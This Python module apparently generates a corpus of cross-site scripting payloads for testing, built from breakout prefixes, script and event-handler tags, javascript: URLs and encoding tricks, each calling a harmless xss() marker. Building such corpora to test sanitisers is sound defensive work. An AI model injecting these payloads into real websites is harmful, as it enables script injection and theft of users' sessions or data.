"""Attempts at running a script from a text: each calls `xss()`, one way or another."""

from html import escape
from itertools import product
from urllib.parse import quote

CALLS = [
    "xss()",
    "xss``",
    "(xss)()",
    "window['xss']()",
    "top.xss()",
    "eval('xss()')",
    "xss&#40;&#41;",
]
#: What an attacker closes first, to get out of where the text stands.
WAYS_OUT = [
    "",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "</svg>",
    "</noscript>",
    "{{",
    "\\",
    "\u2028",
    "<!--",
    "</abbr>",
    "</option></select>",
]
TAGS = [
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script/x>{}</script>",
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}//",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<math><mi//xlink:href=x>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<base href=javascript:{}//>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    "<marquee onstart={}>",
    "<audio src onerror={}>",
    "<form><button formaction=javascript:{}>x",
    "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<template><script>{}</script></template>",
    "<p style=animation-name:x onanimationstart={}>",
]
ADDRESSES = [
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "\x01javascript:{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "javascript://%0a{}",
    "//evil.example/{}",
    "http://javascript:{}",
    'https://example.org/"onmouseover={}//',
]
OTHERS = [
    '" onfocus={} autofocus x="',
    "' onmouseover={} '",
    "`onload={}`",
    "{{{}}}",
    "{% debug %}{}",
    "${{}}",
    "<%={}%>",
    "\u202e<script>{}</script>",
    "\ufeff<script>{}</script>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<scr<script>ipt>{}</script>",
    "</script><script>{}//",
    "}</script><script>{}</script>",
    "@import'javascript:{}';",
    "expression({})",
]


def payloads():
    """All of them (list of str), in the same order in every run."""
    out = [way + tag.replace("{}", "xss()") for way, tag in product(WAYS_OUT, TAGS)]
    out += [tag.replace("{}", call) for tag, call in product(TAGS[:6] + ADDRESSES, CALLS[1:])]
    out += [
        each.format("xss()") if "{{" in each else each.replace("{}", "xss()") for each in OTHERS
    ]
    out += [f'<a href="{each.replace("{}", "xss()")}">x</a>' for each in ADDRESSES]
    out += [quote(tag.replace("{}", "xss()")) for tag in TAGS[:5]]
    out += [escape(tag.replace("{}", "xss()")) for tag in TAGS[:5]]
    return list(dict.fromkeys(out))
